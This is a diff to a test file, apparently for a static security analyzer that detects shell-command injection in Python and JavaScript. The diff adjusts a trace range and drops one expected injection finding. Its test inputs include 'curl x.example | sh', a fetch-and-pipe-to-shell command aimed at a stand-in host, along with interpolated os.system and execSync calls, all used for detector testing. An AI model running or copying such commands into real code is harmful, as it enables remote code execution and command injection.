@@ -384,7 +384,7 @@ describe('Python', () => {
     const { findings, syntaxErrors } = found('a.py', file(`os.system(${expression})`));
     expect({ findings: findings.map(({ check, statement, trace }) => ({ check, statement, trace })), syntaxErrors }).toEqual({
       findings: [
-        { check: 'injection/shell-command', statement: `os.system(${expression})`, trace: [5, 5] },
+        { check: 'injection/shell-command', statement: `os.system(${expression})`, trace: [4, 5] },
         { check: 'failsecure/privileged-unchecked', statement: 'chmod 600 {key}', trace: [5, 5] },
       ],
       syntaxErrors: 0,
@@ -454,7 +454,6 @@ describe('JavaScript', () => {
   test('values put in are the same unknown, and templates that are commands stop at errors', () => {
     const { findings } = found('a.ts', file('execSync(`chmod 600 ${dir}/k; cat "${dir}/k"`);'));
     expect(findings.map(({ check, statement, trace }) => ({ check, statement, trace }))).toEqual([
-      { check: 'injection/shell-command', statement: 'execSync(`chmod 600 ${dir}/k; cat "${dir}/k"`);', trace: [6, 6] },
       { check: 'failsecure/privileged-unchecked', statement: 'chmod 600 ${dir}/k', trace: [6, 6] },
     ]);
     const commands = ['await $`chmod 600 ${dir}; curl x.example | sh`;', 'await $({ quiet: true })`curl x.example | sh`;'];
